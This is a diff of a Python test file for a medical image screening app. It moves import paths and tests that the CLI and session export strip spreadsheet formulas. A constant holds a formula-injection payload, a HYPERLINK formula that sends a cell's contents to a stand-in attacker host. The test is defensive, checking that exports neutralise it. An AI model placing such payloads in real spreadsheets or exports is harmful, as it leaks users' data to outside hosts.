@@ -13,10 +13,10 @@ from dicom_factory import write_dicom
 
 from ran_desktop.cli.screen import main as screen_main
 from ran_desktop.engine.atomic import TEMP_PREFIX, clean_stale_temporaries, write_bytes_atomically
-from ran_desktop.engine.results import spreadsheet_safe
-from ran_desktop.engine.review import ImageRecord
-from ran_desktop.engine.session_export import write_session
-from ran_desktop.engine.storage import Storage, open_storage
+from ran_desktop.engine.records.results import spreadsheet_safe
+from ran_desktop.engine.records.review import ImageRecord
+from ran_desktop.engine.records.session_export import write_session
+from ran_desktop.engine.records.storage import Storage, open_storage
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -57,8 +57,8 @@ def test_the_cli_and_the_session_export_write_no_formula(tiny_bundle, sample_pat
     # the app's own export of the same images
     with open_storage(tmp_path / "data") as store:
         db, session = store.path, store.current_session()
-    from ran_desktop.engine.batch import BatchRun
-    from ran_desktop.engine.bundle import load_bundle
+    from ran_desktop.engine.model.bundle import load_bundle
+    from ran_desktop.engine.screening.batch import BatchRun
 
     BatchRun(load_bundle(tiny_bundle, device="cpu"), db, session, [folder]).run(lambda n: None, lambda *a: None)
     with Storage(db) as store:
